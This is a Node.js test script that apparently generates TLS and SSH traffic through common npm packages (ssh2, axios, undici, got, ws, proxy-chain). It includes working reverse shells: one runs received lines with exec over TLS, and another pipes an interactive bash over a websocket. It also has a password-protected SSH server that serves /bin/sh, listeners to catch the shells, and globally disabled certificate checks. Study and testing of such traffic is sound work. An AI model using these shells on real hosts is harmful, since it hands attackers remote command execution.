// SPDX-License-Identifier: LGPL-2.1-or-later
// What npm's packages do with TLS and SSH: new.js ROLE WORD...
// ssh PORT USER PASSWORD WHAT; sshd PORT KEY USER PASSWORD; proxy HOST PORT CERTIFICATE (proxy-chain);
// axios|agent|undici|got HOST PORT URL, through a proxy reached by TLS; shell|web HOST PORT, a shell given away over TLS or a
// websocket; wait|webwait HOST PORT CERTIFICATE, for one; front HOST PORT HOST PORT CERTIFICATE, a relay.
process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";
process.removeAllListeners("warning");
const fs = require("fs");
const net = require("net");
const tls = require("tls");
const readline = require("readline");
const { spawn, exec } = require("child_process");
const need = (name) => require(`${process.env.TLSNEW || "/opt/tlsnew"}/node_modules/${name}`);
const [role, ...words] = process.argv.slice(2);
const host = (text) => (text.includes(":") ? `[${text}]` : text);
const roles = {
  ssh() {
    const { Client } = need("ssh2");
    const there = new Client();
    there.on("ready", () => {
      if (words[3] === "exec") {
        there.exec("id; ls -l /etc", (_, stream) => stream.resume().on("close", () => there.end()));
      } else if (words[3] === "sftp") {
        there.sftp((_, files) => files.readdir("/usr", () => files.readdir("/etc", () => there.end())));
      } else {
        there.shell((_, stream) => {
          stream.resume().on("close", () => there.end());
          let wait = 0;
          for (const line of ["id", "ls -la /", "uname -a", "exit"]) setTimeout(() => stream.write(line + "\n"), (wait += 900));
        });
      }
    });
    there.on("error", () => process.exit(3));
    there.connect({ host: "127.0.0.1", port: Number(words[0]), username: words[1], password: words[2] });
  },
  sshd() {
    const { Server } = need("ssh2");
    const start = (command, accept) => {
      const stream = accept();
      const child = spawn("/bin/sh", command ? ["-c", command] : ["-i"]);
      stream.pipe(child.stdin);
      child.stdout.on("data", (data) => stream.write(data));
      child.stderr.on("data", (data) => stream.stderr.write(data));
      child.on("close", (code) => { stream.exit(code || 0); stream.end(); });
    };
    new Server({ hostKeys: [fs.readFileSync(words[1])] }, (client) => {
      client.on("error", () => {});
      client.on("authentication", (asked) =>
        asked.method === "password" && asked.password === words[3] ? asked.accept() : asked.reject(["password"]));
      client.on("session", (accept) => {
        const session = accept();
        session.on("pty", (ok) => ok && ok());
        session.on("exec", (ok, _, info) => start(info.command, ok));
        session.on("shell", (ok) => start("", ok));
      });
    }).listen(Number(words[0]), "127.0.0.1");
  },
  proxy() {
    const { Server } = need("proxy-chain");
    const pem = fs.readFileSync(words[2]);
    const made = new Server({ host: words[0], port: Number(words[1]), serverType: "https", httpsOptions: { key: pem, cert: pem } });
    made.listen();
  },
  async axios() {
    const { HttpsProxyAgent } = await import(`${process.env.TLSNEW || "/opt/tlsnew"}/node_modules/https-proxy-agent/dist/index.js`);
    const agent = new HttpsProxyAgent(`https://${host(words[0])}:${words[1]}`, { rejectUnauthorized: false });
    const web = need("axios").create({ httpsAgent: agent, proxy: false });
    await web.get(words[2]);
    await web.get(words[2]);
    process.exit(0);
  },
  async undici() {
    const { ProxyAgent, request } = need("undici");
    const trusting = { rejectUnauthorized: false };
    const dispatcher = new ProxyAgent({ uri: `https://${host(words[0])}:${words[1]}`, requestTls: trusting, proxyTls: trusting });
    for (let n = 0; n < 2; n++) await (await request(words[2], { dispatcher })).body.text();
    process.exit(0);
  },
  async got() {
    const { HttpsProxyAgent } = await import(`${process.env.TLSNEW || "/opt/tlsnew"}/node_modules/https-proxy-agent/dist/index.js`);
    const agent = new HttpsProxyAgent(`https://${host(words[0])}:${words[1]}`, { rejectUnauthorized: false, keepAlive: true });
    await need("got")(words[2], { agent: { https: agent }, https: { rejectUnauthorized: false } });
    process.exit(0);
  },
  shell() {
    const there = tls.connect({ host: words[0], port: Number(words[1]), rejectUnauthorized: false });
    readline.createInterface({ input: there }).on("line", (line) => {
      if (line.trim() === "exit") process.exit(0);
      exec(line, (_, out, wrong) => there.write(out + wrong + "node> "));
    });
  },
  web() {
    const WebSocket = need("ws");
    const there = new WebSocket(`wss://${host(words[0])}:${words[1]}/`, { rejectUnauthorized: false });
    there.on("open", () => {
      const child = spawn("/bin/bash", ["-i"], { cwd: "/tmp" });
      there.on("message", (data) => child.stdin.write(data));
      for (const out of [child.stdout, child.stderr]) out.on("data", (data) => there.send(data));
      child.on("exit", () => there.close());
    });
    there.on("close", () => process.exit(0));
  },
  wait() {
    const pem = fs.readFileSync(words[2]);
    const made = tls.createServer({ key: pem, cert: pem }, (there) => {
      there.on("data", (data) => process.stdout.write(data));
      readline.createInterface({ input: process.stdin, output: process.stdout, terminal: false }).on("line", (line) => there.write(line + "\n"));
      there.on("close", () => process.exit(0));
      there.on("error", () => process.exit(0));
    });
    made.listen(Number(words[1]), words[0]);
  },
  webwait() {
    const pem = fs.readFileSync(words[2]);
    const made = require("https").createServer({ key: pem, cert: pem });
    new (need("ws").Server)({ server: made }).on("connection", (there) => {
      there.on("message", (data) => process.stdout.write(data));
      readline.createInterface({ input: process.stdin, terminal: false }).on("line", (line) => there.send(line + "\n"));
      there.on("close", () => process.exit(0));
    });
    made.listen(Number(words[1]), words[0]);
  },
  front() {
    const pem = fs.readFileSync(words[4]);
    tls.createServer({ key: pem, cert: pem }, (caller) => {
      const there = net.connect(Number(words[3]), words[2]);
      caller.pipe(there).pipe(caller);
      for (const one of [caller, there]) one.on("error", () => { caller.destroy(); there.destroy(); });
    }).listen(Number(words[1]), words[0]);
  },
};
roles[role]();
